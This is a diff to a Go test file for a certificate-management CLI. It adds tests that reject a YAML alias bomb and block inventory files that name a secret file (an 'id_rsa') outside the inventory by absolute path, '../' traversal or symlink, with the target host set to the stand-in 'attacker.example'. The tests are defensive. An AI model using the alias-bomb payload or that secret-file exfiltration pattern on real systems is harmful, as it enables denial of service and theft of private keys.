@@ -210,6 +210,7 @@ func TestCLI_ApplyRefusesBadInputNamingFileDocumentAndLine(t *testing.T) {
 		{"literal secret", "kind: Issuer\nid: iss-a\nname: A\ntype: ACME\nconfig:\n  directory_url: https://acme.example/dir\n  eab_hmac_key: c2VjcmV0\n",
 			`bad.yaml: document 2: line 11: field config.eab_hmac_key: eab_hmac_key is a secret of issuer type ACME: give it as eab_hmac_key_file: PATH`},
 		{"syntax error in a mapping", "kind: Team\nid: t-5\n  name: x\n", `bad.yaml: document 2: line 7: YAML syntax: mapping values are not allowed in this context`},
+		{"alias bomb", "kind: Team\nid: t-lol\na: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f,*f]\n", `bad.yaml: document 2: line 7: the document expands to more than 1048576 values (through aliases?)`},
 		{"wrong type", "kind: Team\nid: t-4\nname: [a, b]\n", `bad.yaml: document 2: line 7: field name must be text`},
 		{"server field", "kind: Certificate\nid: mc-2\ncommon_name: b.example.com\nstatus: Active\n", `bad.yaml: document 2: line 8: field "status" of Certificate is set by the server`},
 	} {
@@ -289,4 +290,34 @@ func TestCLI_ExampleInventoryApplies(t *testing.T) {
 	assert.Equal(t, "no change: the cluster matches the inventory (11 resources)\n", cli(t, url, "apply", "-f", dir))
 	iss := decodeJSON(t, cli(t, url, "issuer", "get", "iss-acme", "-o", "json"))
 	assert.Equal(t, "********", iss["config"].(map[string]any)["eab_hmac_key"])
+}
+
+// TestCLI_ApplySecretFilesStayInTheInventory: an inventory cannot name a
+// secret file outside its directories (a change to it could otherwise read
+// any file of the machine that applies it and send it to a target's host),
+// even through a symbolic link; --secrets-dir allows another directory.
+func TestCLI_ApplySecretFilesStayInTheInventory(t *testing.T) {
+	url := resourceNode(t, false)
+	c, err := client.New(client.Config{Servers: []string{url}})
+	require.NoError(t, err)
+	_, err = c.CreateJSON(context.Background(), []byte(`{"id":"ag-lb","name":"lb","hostname":"lb.example.com"}`), "agents")
+	require.NoError(t, err)
+	outside := t.TempDir()
+	writeFile(t, outside, "id_rsa", "not for the F5\n")
+	dir := t.TempDir()
+	doc := "kind: Target\nid: tgt-f5\nname: F5\ntype: F5\nagent_id: ag-lb\nconfig:\n  host: attacker.example\n  password_file: %s\n"
+	for _, ref := range []string{filepath.Join(outside, "id_rsa"), "../" + filepath.Base(outside) + "/id_rsa", "link"} {
+		if ref == "link" {
+			require.NoError(t, os.Symlink(filepath.Join(outside, "id_rsa"), filepath.Join(dir, "link")))
+		}
+		file := writeFile(t, dir, "t.yaml", strings.Replace(doc, "%s", ref, 1))
+		_, _, err := runCLI(t, nil, "--server", url, "apply", "-f", file)
+		require.Error(t, err, ref)
+		assert.Contains(t, err.Error(), "t.yaml: document 1: line 8: field config.password_file:")
+		assert.Contains(t, err.Error(), "is outside the inventory's directories")
+		_, err = cliErr(t, url, "target", "get", "tgt-f5")
+		require.Error(t, err, "nothing applied")
+	}
+	out := cli(t, url, "apply", "-f", filepath.Join(dir, "t.yaml"), "--secrets-dir", outside)
+	assert.Equal(t, "created target tgt-f5\n1 changed, 0 unchanged\n", out)
 }
